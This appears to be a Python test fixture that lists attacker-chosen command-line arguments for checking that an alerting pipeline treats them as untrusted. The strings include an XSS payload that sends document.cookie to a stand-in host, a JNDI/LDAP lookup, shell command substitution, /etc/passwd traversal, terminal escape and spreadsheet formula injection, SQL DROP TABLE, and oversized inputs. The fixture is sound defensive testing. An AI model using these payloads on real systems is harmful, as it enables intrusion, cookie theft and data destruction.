"""Command lines that an attacker would choose, to test that no part of the pipeline trusts them."""

HOSTILE_ARGUMENTS = (
    "-c \"echo '<script>alert(document.domain)</script>'\"",
    "-c \"printf '\x1b]0;owned\x07\x1b[2J\x1b[31mroot# \x1b[0m'\"",
    '-c "echo one\necho two\r\n{\\"process_exec\\":{}}\n"',
    '"a "quoted" argument" \'single\' \\"escaped\\" `id` $(id)',
    "../../../../etc/passwd%00.png?x=%s%n%x&y={0}{{7*7}}${jndi:ldap://192.0.2.7/a}",
    "<img src=x onerror=\"fetch('//192.0.2.7/'+document.cookie)\"> </textarea>",
    "=cmd|' /C calc'!A0,@SUM(1+1),+1-1",
    "tocsin.alerts.> * foo.bar\tbaz",
    '","node_labels":{"tocsin.dev/number":"0"},"x":"',
    "\u202egnp.exe \u200bzero\u200bwidth \ufeff bom \ufffd\ufffd caf\u00e9 \u4f60\u597d \U0001f480",
    "'; DROP TABLE alerts; -- \" OR 1=1 /*",
    "\x01\x02\x7f\x80\x9f bell\x07 back\x08\x08\x08 form\x0c",
)

LONG_ARGUMENTS = (
    '-c "exec ' + "A" * 4_000 + '"',
    "--filter=" + "(a|b)*" * 1_500,
)

HUGE_ARGUMENT = "--payload=" + "QUJD" * 15_000
"""60 kB in one argument; Tetragon exports all of it."""
